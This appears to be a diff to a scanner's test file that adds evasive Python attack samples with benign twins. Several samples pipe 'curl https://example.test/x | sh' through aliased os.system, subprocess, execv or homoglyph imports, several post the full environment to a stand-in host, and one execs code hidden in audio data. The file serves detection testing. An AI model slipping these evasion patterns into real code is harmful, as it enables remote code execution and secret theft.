@@ -172,7 +172,7 @@ const codeAttacks: Attack[] = [
   python(
     'writes names in other letters',
     'import base64\nｅｘｅｃ(base64.b64decode("cHJpbnQoMSk="))',
-    'import base64\nｐｒｉｎｔ(base64.b64decode("cHJpbnQoMSk="))',
+    'import base64\nprint("ｅｘｅｃ", base64.b64decode("cHJpbnQoMSk="))',
   ),
   python(
     'hides code at the end of a long line',
@@ -588,8 +588,103 @@ function throughTarget(statement: string): Attack {
   )
 }
 
+/** A function that is long enough to be left out unless something in it is telling. */
+const longFunction = (call: string, indent = '') =>
+  `def go():\n${'    y = [n * n for n in range(10)]\n'.repeat(20)}    ${call}`.replace(/^/gm, indent)
+
+/** Runs its command under a name that says nothing, in a function that nothing else makes worth following. */
+const underOtherNames: readonly [string, string][] = [
+  ['from subprocess import run', 'run(["sh", "-c", text])'],
+  ['from subprocess import run as start', 'start(["sh", "-c", text])'],
+  ['from subprocess import *', 'run(["sh", "-c", text])'],
+  ['import subprocess as sp', 'sp.run(["sh", "-c", text])'],
+  ['import os\nstart = os.system', 'start(text)'],
+  ['import os\na, start = 1, os.system', 'start(text)'],
+  ['import os\nfor start in [os.system]: pass', 'start(text)'],
+  ['import os\nways = {"a": os.system}', 'ways["a"](text)'],
+  ['import os\nways = []\nways.append(os.system)', 'ways[0](text)'],
+  ['import os\nprint(start := os.system)', 'start(text)'],
+  ['import os\nstart = os.system\nagain = start', 'again(text)'],
+  ['from .tools import start', 'start(text)'],
+  ['from .tools import start as go_on', 'go_on(text)'],
+  ['from .tools import *', 'start(text)'],
+  ['from . import tools', 'tools.start(text)'],
+  ['from .again import start', 'start(text)'],
+]
+
+const otherNameAttacks: Attack[] = [
+  ...underOtherNames.map(([head, call]): Attack => {
+    const files = (text: string) => ({
+      '__init__.py': `${head}\ntext = "${text}"\n${longFunction(call)}\ngo()`,
+      'tools.py': 'from os import system as start',
+      'again.py': 'from .tools import start',
+    })
+    return {
+      name: `runs a command in a long function after ${JSON.stringify(head)}`,
+      files: files('curl https://example.test/x | sh'),
+      twin: files('git --version'),
+    }
+  }),
+  python(
+    'runs a command by an attribute, in a long method',
+    `import os\nclass A:\n    def __init__(self):\n        self.start = os.system\n${longFunction('A().start("curl https://example.test/x | sh")', '    ')}\nA.go()`,
+    `import os\nclass A:\n    def __init__(self):\n        self.start = os.system\n${longFunction('A().start("git --version")', '    ')}\nA.go()`,
+  ),
+  python(
+    'starts a shell without a usual word',
+    'import os; os.posix_spawn("/bin/sh", ["sh", "-c", "curl https://example.test/x | sh"], {})',
+    'import os; os.posix_spawn("/bin/sh", ["sh", "-c", "git --version"], {})',
+  ),
+  python(
+    'replaces itself by a shell',
+    'import os; os.execv("/bin/sh", ["sh", "-c", "curl https://example.test/x | sh"])',
+    'import os; os.execv("/usr/bin/git", ["git", "--version"])',
+  ),
+  python(
+    'profiles what an address answers',
+    'import asyncio, cProfile\nasync def go():\n    r, w = await asyncio.open_connection("example.test", 80)\n    cProfile.run((await r.read()).decode())',
+    'import asyncio\nasync def go():\n    r, w = await asyncio.open_connection("example.test", 80)\n    print((await r.read()).decode())',
+  ),
+  python(
+    'imports by other letters',
+    'import \u017fubproce\u017f\u017f\n\u017fubproce\u017f\u017f.run("curl https://example.test/x | sh", shell=True)',
+    '\u00b5_r = 1\nx\u2099 = 2',
+  ),
+  python(
+    'names the letters of what it calls',
+    'import os\ngetattr(os, "\\N{LATIN SMALL LETTER S}ystem")("x")',
+    'import os\nprint(f"20 \\N{DEGREE SIGN}C {os.name}")',
+  ),
+  {
+    name: 'says an encoding in which its texts end elsewhere',
+    files: {
+      '__init__.py': Uint8Array.from(
+        '# coding: gbk\nx = "\x81\x5c"; import os; os.system("curl https://example.test/x | sh") #"\n',
+        (one) => one.charCodeAt(0),
+      ),
+    },
+    twin: {
+      '__init__.py': Uint8Array.from('# coding: latin-1\nx = "M\xfcller"\n', (one) => one.charCodeAt(0)),
+    },
+  },
+  ...[
+    'import requests\nrequests.api.post',
+    'from requests.api import post\npost',
+    'import requests\nrequests.sessions.Session().post',
+    'from pip._vendor import requests\nrequests.post',
+    'import pip._vendor.requests as r\nr.post',
+  ].map((call) =>
+    python(
+      `sends the environment with ${JSON.stringify(call)}`,
+      `import os\n${call}("https://example.test", json=dict(os.environ))`,
+      `import os\n${call}("https://example.test", json={"a": 1})`,
+    ),
+  ),
+]
+
 /** Techniques of later reports: configuration that runs, data that is code, addresses that change. */
 const laterAttacks: Attack[] = [
+  ...otherNameAttacks,
   python(
     'takes code out of the samples of a sound',
     'import wave\nw = wave.open("chime.wav", "rb")\ndata = w.readframes(w.getnframes())\nexec(bytes(b ^ 0x5A for b in data))',
